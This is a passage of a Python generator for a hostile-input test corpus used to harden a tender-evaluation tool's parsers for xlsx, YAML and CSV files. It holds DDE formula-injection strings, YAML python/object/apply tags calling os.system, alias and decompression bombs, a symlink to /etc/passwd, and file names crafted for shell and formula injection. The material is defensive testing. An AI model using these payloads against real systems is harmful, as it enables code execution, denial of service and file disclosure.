            values={"S0!GR20000": 1.0},
        ),
        workbook(
            "element-spam.xlsx",
            "50 million empty elements in a sheet (190 MB)",
            _element_spam,
            budget("Response", "2,000,000 XML elements"),
        ),
        workbook(
            "sharedstrings-last-used.xlsx",
            "a million shared strings, the sheet using the last",
            _strings_last_used,
            budget("Response", TEXT_BUDGET),
            heavy=True,
        ),
        workbook(
            "sharedstrings-fanout.xlsx",
            "one 1.5 MB string in 20,000 cells: 30 GB of text",
            _fanout,
            budget("Response", TEXT_BUDGET),
            heavy=True,
        ),
        workbook(
            "text-at-limits.xlsx",
            "one 2,400-character string in 20,000 cells: 48 million characters of text",
            _text_at_limits,
            heavy=True,
            values={"Response!A20000": "<text of 2,400 characters>"},
        ),
        # -- budgets for the other parts a parser reads whole (issue 15 item 13)
        fatal(
            "sharedstrings-too-large.xlsx",
            "ten million shared strings (190 MB) within the container limits",
            _strings_too_large,
            part_budget_size(STRINGS, "64.0 MB"),
        ),
        fatal(
            "sharedstrings-too-many.xlsx",
            "1,000,001 empty shared strings in 5 MB",
            _strings_too_many,
            error(part_budget_count(STRINGS, "1,000,000 shared strings")),
        ),
        fatal(
            "names-too-many.xlsx",
            "100,001 junk defined names (1,500,000 once took 17.8 s and 1.3 GB)",
            _many_names,
            error(part_budget_count(WORKBOOK, "100,000 defined names")),
        ),
        workbook(
            "names-at-limits.xlsx",
            "100,000 defined names: the most a workbook may have",
            _names_at_limits,
            heavy=True,
            values={"Response!A1": "Name"},
        ),
        fatal(
            "workbook-part-too-large.xlsx",
            "xl/workbook.xml of 33 MB",
            _workbook_too_large,
            part_budget_size(WORKBOOK, "32.0 MB"),
        ),
        fatal(
            "custom-properties-too-many.xlsx",
            "1,001 custom document properties (1,000,000 once took 11.4 s and 0.9 GB)",
            _many_properties,
            error(part_budget_count(CUSTOM, "1,000 custom document properties")),
        ),
        workbook(
            "custom-properties-at-limits.xlsx",
            "1,000 custom document properties: the most a workbook may have",
            lambda: _many_properties(1_000),
            values={"Response!A1": "Name"},
        ),
        *(
            fatal(
                f"{part.split('/')[1].replace('.xml', '')}-properties-too-large.xlsx",
                f"{part} of 2 MB",
                _properties_too_large(part),
                part_budget_size(part, "1.0 MB"),
            )
            for part in (CUSTOM, "docProps/core.xml", "docProps/app.xml")
        ),
        fatal(
            "relationships-too-many.xlsx",
            "10,001 relationships in the workbook's relationships part",
            _many_relationships,
            error(part_budget_count(WORKBOOK_RELS, "10,000 relationships")),
        ),
        fatal(
            "styles-too-many-elements.xlsx",
            "501,000 elements in xl/styles.xml",
            _styles_elements,
            error(part_budget_count("xl/styles.xml", "500,000 XML elements")),
        ),
        # -- what a cell really says (issue 15 item 8)
        workbook(
            "names-differing-in-case.xlsx",
            "SV_QTY_M1 and sv_qty_M1: one name to Excel, pointing at two cells",
            _names_differing_in_case,
            error(
                'the workbook defines the name "SV_QTY_M1" and "sv_qty_M1": names differing '
                "only in case are one name to Excel, so the workbook is damaged or crafted; "
                "neither is read"
            ),
        ),
        workbook(
            "formula-result-lies.xlsx",
            "=9 saved with the result 90 (the form readers work out 9 and warn)",
            _formula_lies,
            values={"Response!A1": 90.0, "Response!B1": 90.0},
        ),
        # -- values the reader cannot take: reported per sheet, never a crash
        workbook(
            "date-overflow.xlsx",
            "a date-formatted -1e308 (calamine panics)",
            _date_overflow,
            unreadable,
        ),
        workbook("bad-cell-type.xlsx", 'a cell with t="zz"', _bad_cell_type, unreadable),
        # -- untrusted text: read back exactly, never interpreted
        workbook(
            "odd-unicode.xlsx",
            "RTL override, zero-width, combining, emoji (also as sheet names)",
            _odd_unicode,
            values={f"Response!A{i}": t for i, t in enumerate(ODD_UNICODE, 1)}
            | {f"{n}!A1": n for n in ODD_SHEET_NAMES},
        ),
        workbook(
            "formula-injection.xlsx",
            "=cmd|' /C calc'!A0, +, -, @, tab, full-width =",
            lambda: _texts(FORMULA_INJECTION),
            values={f"Response!A{i}": t for i, t in enumerate(FORMULA_INJECTION, 1)},
        ),
        workbook(
            "html-payloads.xlsx",
            "script, img, link, style, iframe, template syntax",
            lambda: _texts(HTML_PAYLOADS),
            values={f"Response!A{i}": t for i, t in enumerate(HTML_PAYLOADS, 1)},
        ),
    ]


# ----------------------------------------------------------------------------- YAML and CSV

TUTORIAL = Path(__file__).resolve().parents[2] / "rubrics" / "tutorial.yaml"


def _alias_bomb(key: str = "notes") -> bytes:
    lines = ["lol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, 10):
        lines.append(f"lol{i}: &lol{i} [" + ", ".join([f"*lol{i - 1}"] * 9) + "]")
    lines.append(f"{key}: *lol9")
    return ("\n".join(lines) + "\n").encode()


def _deep(levels: int = 10_000) -> bytes:
    return b"id: x\nnotes: " + b"[" * levels + b"]" * levels + b"\n"


def _deep_block(levels: int = 200) -> bytes:
    return b"".join(b"  " * i + b"k%d:\n" % i for i in range(levels)) + b"  " * levels + b"x\n"


def _huge(prefix: bytes = b"id: x\n") -> bytes:
    line = b"# " + b"padding " * 12 + b"\n"
    return prefix + line * (5_300_000 // len(line) + 1)


def _garbage() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + random.Random(SEED).randbytes(4000)


PY_TAGS = (
    "id: !!python/name:builtins.exit ''\n"
    'title: !!python/object/apply:os.system ["touch PWNED"]\n'
    "description: !!python/object:__main__.Evil {x: 1}\n"
    "version: !!binary aGVsbG8=\n"
    "policy: !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [[touch, PWNED]]\n"
)


def _tutorial_with(*changes: tuple[str, str]) -> bytes:
    text = TUTORIAL.read_text(encoding="utf-8")
    for old, new in changes:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text.encode()


NONFINITE = (
    (
        "        weight: 5\n        type: quantitative",
        "        weight: .nan\n        type: quantitative",
    ),
    (
        "        weight: 5\n        type: qualitative",
        "        weight: .inf\n        type: qualitative",
    ),
    ("      - score: 20\n", "      - score: -.inf\n"),
    ("social_value_percent: 10", "social_value_percent: 1e308"),
    ("policy_minimum_percent: 10", "policy_minimum_percent: .NaN"),
)

NONFINITE_PROBLEMS = (
    error('social_value_percent must be a number, got "1e308"', line=15),
    error('policy_minimum_percent must be a number, got ".NaN"', line=16),
    error('score must be a number, got "-.inf"', line=25),
    error('weight must be a number, got ".nan"', line=47),
    error('weight must be a number, got ".inf"', line=67),
)
DUPLICATES = (
    ("title: Tutorial", "title: Tutorial\ntitle: Second title\n#"),
    ("        weight: 5\n", "        weight: 5\n        weight: 95\n"),
)
DUPLICATE_PROBLEMS = (
    error("duplicate key `title` (first given at line 4)", line=5),
    error("duplicate key `weight` (first given at line 49)", line=50),
)
PY_TAG_PROBLEMS = (  # nothing constructed, nothing run: tagged nodes are plain values
    error("the rubric needs `sections`", line=1),
    error("the rubric needs `weighting`", line=1),
    error("id must be an identifier (letters, digits, '-', '_' or '.'), got \"\"", line=1),
    error("title must be a single value, got a list", line=2),
    error("description must be a single value, got a mapping", line=3),
    error("policy must be a single value, got a list", line=5),
)

TENDER = """\
reference: HOSTILE-1
title: Hostile input test
buyer: Test Council
contract:
  value: 1000000
  currency: GBP
rubric: tutorial
proxy_set: example-proxies
evaluators:
  - {id: ann, name: Ann Evans}
"""

PROXIES_CSV = (
    "# id: hostile\n# name: Hostile proxies\n# source: tests\n# version: 1\n# licence: CC0-1.0\n"
    "# price_year: 2026\n# currency: GBP\nmeasure,unit,value,note\n"
)


def _tender_with(*changes: tuple[str, str]) -> bytes:
    text = TENDER
    for old, new in changes:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text.encode()


PROXIES_YAML = """\
id: hostile
name: Hostile
source: tests
version: '1'
licence: CC0-1.0
price_year: 2026
currency: GBP
example: true
values:
  - {measure: M1, unit: FTE, value: .nan}
  - {measure: M2, unit: weeks, value: -.inf}
"""


def yaml_cases() -> list[Case]:
    nested = error("the document is nested more than 64 levels deep")
    bomb = error("the document expands to more than 200,000 nodes (alias bomb?)", line=1)
    utf16 = error("not UTF-8 text (byte 0)")
    garbage = error("not UTF-8 text (byte 0)")

    def too_big(data: bytes) -> Expect:
        return error(f"file is {len(data):,} bytes; the limit is 5,242,880")

    big_rubric, big_tender, big_csv = _huge(), _huge(TENDER.encode()), _huge(PROXIES_CSV.encode())
    deep_tender = TENDER.encode() + b"dates: " + b"[" * 10_000 + b"]" * 10_000 + b"\n"
    tag = 'title: !!python/object/apply:os.system ["touch PWNED"]'
    nonfinite_csv = "M1,FTE,nan,\nM2,weeks,inf,\nM3,hours,-inf,\nM4,FTE,1e308,\nM5,FTE,NaN,\n"
    found = [("M1", "nan"), ("M2", "inf"), ("M3", "-inf"), ("M4", "1e308"), ("M5", "NaN")]
    return [
        # rubrics: load_rubric
        rubric("alias-bomb.yaml", "billion laughs with YAML aliases", _alias_bomb, bomb),
        rubric(
            "recursive-alias.yaml",
            "an alias inside its own anchor",
            lambda: b"id: &a [*a]\n",
            nested,
        ),
        rubric("deep-flow.yaml", "10,000 nested flow lists", _deep, nested),
        rubric("deep-block.yaml", "200 nested block mappings", _deep_block, nested),
        rubric("huge.yaml", "a 5.3 MB rubric", lambda: big_rubric, too_big(big_rubric)),
        rubric("binary-garbage.yaml", "random bytes after a PNG signature", _garbage, garbage),
        rubric(
            "utf16.yaml",
            "the tutorial rubric saved as UTF-16",
            lambda: TUTORIAL.read_text(encoding="utf-8").encode("utf-16"),
            utf16,
        ),
        rubric(
            "nul-bytes.yaml",
            "NUL bytes (UTF-16 without a byte order mark)",
            lambda: TUTORIAL.read_text(encoding="utf-8").encode("utf-16-le"),
            contains("unacceptable character #x0000"),
        ),
        rubric(
            "python-tags.yaml",
            "!!python/object, /apply, /name and !!binary tags",
            lambda: PY_TAGS.encode(),
            *PY_TAG_PROBLEMS,
        ),
        rubric(
            "duplicate-keys.yaml",
            "keys given twice at the root and in a criterion",
            lambda: _tutorial_with(*DUPLICATES),
            *DUPLICATE_PROBLEMS,
        ),
        rubric(
            "nonfinite-weights.yaml",
            "NaN, Infinity and 1e308 as weights and percentages",
            lambda: _tutorial_with(*NONFINITE),
            *NONFINITE_PROBLEMS,
        ),
        rubric(
            "huge-quantities.yaml",
            "max_quantity of a trillion and one, min_quantity of two billion (over the bounds)",
            lambda: _tutorial_with(
                (
                    "living in the contract's local area.\n",
                    "living in the contract's local area.\n"
                    "            min_quantity: 2000000000\n"
                    "            max_quantity: 1000000000001\n",
                )
            ),
            error("min_quantity must be at most 1000000000, got 2000000000", line=55),
            error("max_quantity must be at most 1000000000, got 1000000000001", line=56),
        ),
        # tenders: load_tender (one folder each)
        tender(
            "nan-value",
            "contract value .nan",
            lambda: _tender_with(("value: 1000000", "value: .nan")),
            error('value must be a number, got ".nan"', line=5),
        ),
        tender(
            "inf-value",
            "contract value .inf, social_value_percent -.inf",
            lambda: _tender_with(
                ("value: 1000000", "value: .inf"),
                ("evaluators:", "social_value_percent: -.inf\nevaluators:"),
            ),
            error('value must be a number, got ".inf"', line=5),
            error('social_value_percent must be a number, got "-.inf"', line=9),
        ),
        tender(
            "huge-value",
            "contract value 1e308",
            lambda: _tender_with(("value: 1000000", "value: 1e308")),
            error('value must be a number, got "1e308"', line=5),
        ),
        tender(
            "tiny-value",
            "contract value 1e-999999999",
            lambda: _tender_with(("value: 1000000", "value: 1e-999999999")),
            error('value must be a number, got "1e-999999999"', line=5),
        ),
        tender(
            "long-value",
            "contract value with 5,000 zeros after the point",
            lambda: _tender_with(("value: 1000000", "value: 0." + "0" * 5000 + "1")),
            error(f'value must be a number, got "0.{"0" * 58}..." (5,003 characters)', line=5),
        ),
        # issue 15 item 15: values that once reached the arithmetic and raised there
        *(
            tender(
                name,
                about,
                lambda text=text: _tender_with(("value: 1000000", f"value: {text}")),
                error(message, line=5),
            )
            for name, about, text, message in (
                (
                    "least-value",
                    "contract value 0.000000000000001 (accepted once; evaluate then raised)",
                    "0.000000000000001",
                    "value must be at least 1, got 0.000000000000001",
                ),
                ("zero-value", "contract value 0", "0", "value must be at least 1, got 0"),
                (
                    "below-one-value",
                    "contract value 0.99",
                    "0.99",
                    "value must be at least 1, got 0.99",
                ),
                (
                    "over-trillion-value",
                    "contract value one trillion and one",
                    "1000000000001",
                    "value must be at most 1000000000000, got 1000000000001",
                ),
            )
        ),
        tender(
            "long-title",
            "a title of 10,001 characters without a space, and a buyer of exactly 10,000",
            lambda: _tender_with(
                ("title: Hostile input test", "title: " + "T" * 10_001),
                ("buyer: Test Council", "buyer: " + "B" * 10_000),
            ),
            error("title is 10,001 characters long, over the limit of 10,000: shorten it", line=2),
        ),
        tender(
            "huge-fte-cost",
            "annual_fte_cost of 10 million and one",
            lambda: _tender_with(
                ("  currency: GBP", "  currency: GBP\n  annual_fte_cost: 10000001")
            ),
            error("annual_fte_cost must be at most 10000000, got 10000001", line=7),
        ),
        tender(
            "alias-bomb",
            "billion laughs with YAML aliases",
            lambda: TENDER.encode() + _alias_bomb("marking"),
            bomb,
        ),
        tender("deep", "10,000 nested lists", lambda: deep_tender, nested),
        tender("huge", "a 5.3 MB tender.yaml", lambda: big_tender, too_big(big_tender)),
        tender("utf16", "tender.yaml saved as UTF-16", lambda: TENDER.encode("utf-16"), utf16),
        tender("binary-garbage", "random bytes", _garbage, garbage),
        tender(
            "python-tag",
            "a !!python/object/apply tag as the title",
            lambda: _tender_with(("title: Hostile input test", tag)),
            error("title must be a single value, got a list", line=2),
        ),
        tender(
            "duplicate-keys",
            "reference given twice",
            lambda: b"reference: A\n" + TENDER.encode(),
            error("duplicate key `reference` (first given at line 1)", line=2),
        ),
        # proxy sets: load_proxy_set
        proxies(
            "nonfinite.csv",
            "nan, inf, -inf, 1e308 as proxy values",
            lambda: (PROXIES_CSV + nonfinite_csv).encode(),
            *(
                error(f'value for `{m}` must be a number of 0 or more, got "{v}"', line=n)
                for n, (m, v) in enumerate(found, start=9)
            ),
        ),
        proxies(
            "nonfinite.yaml",
            "YAML .nan and -.inf proxy values",
            lambda: PROXIES_YAML.encode(),
            error('value for `M1` must be a number of 0 or more, got ".nan"', line=10),
            error('value for `M2` must be a number of 0 or more, got "-.inf"', line=11),
        ),
        proxies("alias-bomb.yaml", "billion laughs with YAML aliases", _alias_bomb, bomb),
        proxies(
            "utf16.csv",
            "a proxy CSV saved as UTF-16",
            lambda: (PROXIES_CSV + "M1,FTE,30000,\n").encode("utf-16"),
            utf16,
        ),
        proxies("huge.csv", "a 5.3 MB proxy CSV", lambda: big_csv, too_big(big_csv)),
        proxies(
            "long-field.csv",
            "a note of 200,000 characters (over csv's field limit)",
            lambda: (PROXIES_CSV + "M1,FTE,30000," + "x" * 200_000 + "\n").encode(),
            error(
                "this line cannot be read as CSV (field larger than field limit (131072)); the "
                "rest of the file was not read",
                line=9,
            ),
        ),
        proxies(
            "huge-value.csv",
            "a proxy value of 10 billion, and one of a billion (the most)",
            lambda: (PROXIES_CSV + "M1,FTE,10000000000,\nM2,weeks,1000000000,\n").encode(),
            error('value for `M1` must be at most 1,000,000,000, got "10000000000"', line=9),
        ),
        proxies(
            "tiny-value.csv",
            "a proxy value of 1e-999999999",
            lambda: (PROXIES_CSV + "M1,FTE,1e-999999999,\n").encode(),
            error('value for `M1` must be a number of 0 or more, got "1e-999999999"', line=9),
        ),
    ]


# ----------------------------------------------------------------------------- writing


# ----------------------------------------------------------------------------- file system

GOOD_NAMES = (
    "Acme Ltd.xlsx",
    "CON.xlsx",
    "nul.xlsx",
    "Bid \u202egnp.exe\u202c e\u0301 \U0001f4ca.xlsx",
    "name with  spaces.xlsx",
)
"""Odd but legal names for bidder files: reserved on Windows, direction override, emoji."""

SYMLINK = ("error", "is a symbolic link: refused (copy the file itself here)")

#: Response file names a bidder (or a portal) chooses, each built to break an output (issue 15
#: item 1): name -> what it tries. Every one must be a bidder key like any other, shown with
#: visible markers for its control and format characters, and never change a formula. (No
#: name holds a "/": no file system allows one.)
HOSTILE_FILE_NAMES = {
    "Greenway Ltd. v2.xlsx": "a dot in the stem (once crashed the results.xlsx writer)",
    'x}&HYPERLINK("e.example")&{b_y.xlsx': "closes a formula placeholder in results.xlsx",
    "forged\nforged.xlsx: ok (response).xlsx": "a newline forging a line of check's listing",
    "carriage\rreturn.xlsx": "a carriage return, which rewinds a terminal line",
    "-rf.xlsx": "a leading dash, read as an option by a careless shell",
    "--help.xlsx": "two leading dashes",
    "  spaced out  .xlsx": "leading and trailing spaces in the stem",
    'O\'Brien "Quoted" Ltd.xlsx': "single and double quotes",
    "[draft] (v3) {0}.xlsx": "brackets, parentheses and a format placeholder",
    "=cmd|' -C calc'!A0.xlsx": "a DDE formula as the whole name (a name cannot hold a /)",
    "C:\\Users\\..\\evil.xlsx": "a drive letter and backslashes, a path to Windows",
    "Acme \u202egnp.exe\u202c Ltd.xlsx": "a right-to-left override reversing the name",
    "Zero\u200bwidth Ltd.xlsx": "a zero-width space",
    "bell\x07 and \x1b[31mescape.xlsx": "a BEL and a terminal escape sequence",
    "tab\there.xlsx": "a tab",
    "latin1 caf\udce9.xlsx": "a byte that is not UTF-8 (Latin-1 \\xe9): Python's lone surrogate",
}


def _fs_text(name: str) -> str:
    """A file name as text, a byte that is not UTF-8 written ``\\xe9``."""
    return os.fsencode(name).decode("utf-8", "backslashreplace")


def _twin(first: str, how: str, what: str = "response") -> tuple[str, str]:
    return (
        "error",
        f"has the same name as responses/{first}, which differs {how}: Windows and macOS would "
        "see one file, and the record could not tell the two apart, so it is not read; keep one "
        f"{what} and remove the other (or rename it, if they are different)",
    )


NFD_NAME = "Bid \u202egnp.exe\u202c e\u0301 \U0001f4ca.xlsx"
FILESYSTEM_CASES = {
    "link-to-passwd.xlsx": SYMLINK,
    "link-outside.xlsx": SYMLINK,
    "looks-like-a-workbook.xlsx": ("warning", "is a folder: ignored"),
    "~$acme.xlsx": ("warning", "is an Excel lock file (the workbook is open somewhere): ignored"),
    ".~lock.Acme Ltd.xlsx#": (
        "warning",
        "is a LibreOffice lock file (the workbook is open somewhere): ignored",
    ),
    "old-format.xls": (
        "error",
        "is not an .xlsx workbook (.xls file): save the response as an Excel Workbook (.xlsx)",
    ),
    "notes.pdf": ("warning", "is not a workbook: ignored (only the .xlsx responses here are read)"),
    "acme-ltd.xlsx": (
        "error",
        'gives the same bidder key ("acme_ltd") as responses/Acme Ltd.xlsx: rename one of the files',
    ),
    # Hidden files (issue 15 item 3): a hidden workbook is a bid out of sight.
    ".hidden-bidder.xlsx": (
        "error",
        'is a hidden file (its name starts with "."), so it is not read: if it is a response, '
        "rename it without the leading dot; if not, move it out of responses/",
    ),
    ".notes.txt": ("warning", 'is a hidden file (its name starts with "."): ignored'),
    # Twins (issue 15 item 2): names the same once case, normalisation, invisible characters
    # and the extension are set aside.
    "acme ltd.xlsx": _twin("Acme Ltd.xlsx", "only in letter case"),
    "Acme\u200b Ltd.xlsx": _twin(
        "Acme Ltd.xlsx", "only in invisible characters (shown as <U+...>)"
    ),
    "CON.xlsm": _twin("CON.xlsx", "only in the extension (.xlsx and .xlsm)"),
    "nul.XLSX": _twin("nul.xlsx", "only in the extension (.xlsx and .XLSX)"),
    unicodedata.normalize("NFC", NFD_NAME): _twin(
        NFD_NAME, "only in how accented letters are encoded (Unicode NFC and NFD)"
    ),
}
"""What check_tender says about each oddity in responses/ (one problem each)."""

#: AppleDouble: the ``._name`` file macOS writes beside ``name`` on a shared drive or USB stick.
APPLE_DOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + b"\x00" * 58
IGNORED_CASES = {
    ".DS_Store": "macOS Finder's settings for the folder, not a response",
    "Thumbs.db": "Windows Explorer's cache of thumbnails, not a response",
    "desktop.ini": "Windows Explorer's settings for the folder, not a response",
    "._Acme Ltd.xlsx": "macOS's AppleDouble file of the attributes of Acme Ltd.xlsx, not a response",
    "__MACOSX": "the resource data macOS adds to a zip file, left when it was unzipped, "
    "not a response",
}
"""Files the operating system leaves in responses/: listed as ignored with the reason, no
problem (issue 15 item 3)."""


@dataclass(frozen=True)
class BidderCase:
    """A response filled in with this legal name and company number (or a byte-for-byte copy
    of another case's file), and the one problem check_tender reports on it (None: none)."""

    file: str
    name: str
    company_number: str
    expect: tuple[str, str] | None = None  # (severity, text the message contains)
    copy_of: str | None = None


_LIKE_FIRST = "looks the same as that of responses/lookalike-1.xlsx"
BIDDER_CASES = (
    BidderCase("number-1.xlsx", "Northgate Services Ltd", "07000001"),
    BidderCase(
        "number-2.xlsx",
        "Southgate Services Ltd",
        "0700 0001",
        ("error", "gives the company number 0700 0001, as responses/number-1.xlsx does"),
    ),
    BidderCase("lookalike-1.xlsx", "Riverside Cleaning Ltd", "07000002"),
    BidderCase(
        "lookalike-2-zwsp.xlsx",
        "Riverside\u200b Cleaning Ltd",
        "07000003",
        ("warning", _LIKE_FIRST + ' ("Riverside Cleaning Ltd"): they differ only in invisible'),
    ),
    BidderCase(
        "lookalike-3-rlo.xlsx",
        "Riverside \u202eCleaning Ltd\u202c",
        "07000004",
        ("warning", _LIKE_FIRST),
    ),
    BidderCase(
        "lookalike-4-isolates.xlsx",
        "Riverside \u2066Cleaning\u2069 Ltd",
        "07000005",
        ("warning", _LIKE_FIRST),
    ),
    BidderCase(
        "lookalike-5-fullwidth.xlsx",
        "\uff32\uff49\uff56\uff45\uff52\uff53\uff49\uff44\uff45 CLEANING  Ltd",
        "07000006",
        ("warning", _LIKE_FIRST),
    ),
    BidderCase(
        "lookalike-6-same.xlsx",
        "Riverside Cleaning Ltd",
        "07000007",
        ("warning", 'has the same legal name, "Riverside Cleaning Ltd", as responses/lookalike-1'),
    ),
    BidderCase(
        "lookalike-7-copy.xlsx",
        "",
        "",
        ("error", "is the same file, byte for byte, as responses/lookalike-1.xlsx"),
        copy_of="lookalike-1.xlsx",
    ),
    BidderCase("reversed.xlsx", "Acme \u202eetirW\u202c Ltd", "07000008"),
)
"""The same bidder twice and names that look alike (issue 15 items 2 and 10), as responses: a
form filled in by whoever builds the tender (the corpus lists them in MANIFEST.json)."""


def write_filesystem_cases(responses: Path, outside: Path) -> None:
    """Add the :data:`FILESYSTEM_CASES` and :data:`IGNORED_CASES` to a ``responses/`` folder that
    holds ``Acme Ltd.xlsx``, ``CON.xlsx``, ``nul.xlsx`` and :data:`NFD_NAME`; ``outside`` is a file
    beyond the tender folder for a symbolic link to point at."""
    acme = (responses / "Acme Ltd.xlsx").read_bytes()
    (responses / "link-to-passwd.xlsx").symlink_to("/etc/passwd")
    (responses / "link-outside.xlsx").symlink_to(os.path.relpath(outside, responses))
    (responses / "looks-like-a-workbook.xlsx").mkdir()
    (responses / "looks-like-a-workbook.xlsx" / "inner.xlsx").write_bytes(b"")
    (responses / "~$acme.xlsx").write_bytes(b"\x00" * 165)
    (responses / ".~lock.Acme Ltd.xlsx#").write_text(",Jo Bloggs,host,01.03.2026 10:00,\n")
    (responses / "old-format.xls").write_bytes(_ole2())
    (responses / "notes.pdf").write_bytes(_renamed_pdf())
    (responses / "acme-ltd.xlsx").write_bytes(acme)
    (responses / ".hidden-bidder.xlsx").write_bytes(acme)
    (responses / ".notes.txt").write_text("a note\n")
    for twin in ("acme ltd.xlsx", "Acme\u200b Ltd.xlsx", "CON.xlsm", "nul.XLSX"):
        (responses / twin).write_bytes(acme)
    (responses / unicodedata.normalize("NFC", NFD_NAME)).write_bytes(acme)
    (responses / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1" + b"\x00" * 56)
    (responses / "Thumbs.db").write_bytes(_ole2()[:1024])
    (responses / "desktop.ini").write_text("[.ShellClassInfo]\nIconResource=x.ico,0\n")
    (responses / "._Acme Ltd.xlsx").write_bytes(APPLE_DOUBLE)
    (responses / "__MACOSX").mkdir()
    (responses / "__MACOSX" / "._Acme Ltd.xlsx").write_bytes(APPLE_DOUBLE)


def all_cases() -> list[Case]:
    return workbook_cases() + yaml_cases()


def write_corpus(folder: str | Path, cases: Sequence[Case] | None = None) -> list[Case]:
    """Write every case (or only ``cases``) below ``folder`` and a MANIFEST.json; return the
    cases. The whole corpus also gets ``filesystem/``: a ``responses/`` folder with odd names,
    symbolic links, a folder named like a workbook and other things check_tender meets."""
    folder = Path(folder)
    cases_are_all = cases is None
    cases = list(all_cases() if cases is None else cases)
    for case in cases:
        target = folder / case.path
        target.parent.mkdir(parents=True, exist_ok=True)
        if case.name in SPARSE:
            with target.open("wb") as handle:
                handle.write(b"PK\x03\x04")
                handle.truncate(SPARSE[case.name])
        else:
            target.write_bytes(case.build())
    manifest: dict[str, object] = {"cases": [case.to_json() for case in cases]}
    if cases_are_all:
        responses = folder / "filesystem" / "responses"
        responses.mkdir(parents=True, exist_ok=True)
        for name in GOOD_NAMES:
            (responses / name).write_bytes(xlsx())
        outside = folder / "filesystem" / "outside.xlsx"
        outside.write_bytes(xlsx())
        write_filesystem_cases(responses, outside)
        manifest["filesystem"] = {
            f"filesystem/responses/{name}": {"severity": sev, "message": message}
            for name, (sev, message) in FILESYSTEM_CASES.items()
        }
        names = folder / "filesystem" / "names"
        names.mkdir(parents=True, exist_ok=True)
        for name in HOSTILE_FILE_NAMES:
            (names / name).write_bytes(xlsx())
        manifest["file_names"] = {  # a byte that is not UTF-8 as \\xe9
            f"filesystem/names/{_fs_text(name)}": about
            for name, about in HOSTILE_FILE_NAMES.items()
        }
        manifest["ignored"] = {
            f"filesystem/responses/{name}": reason for name, reason in IGNORED_CASES.items()
        }
        manifest["bidders"] = [
            {
                "file": f"responses/{b.file}",
                "legal_name": b.name,
                "company_number": b.company_number,
                "copy_of": b.copy_of and f"responses/{b.copy_of}",
                "expect": b.expect and {"severity": b.expect[0], "contains": b.expect[1]},
            }
            for b in BIDDER_CASES
        ]
        manifest.update(write_folder_cases(folder))
    (folder / "MANIFEST.json").write_text(
        json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    return cases
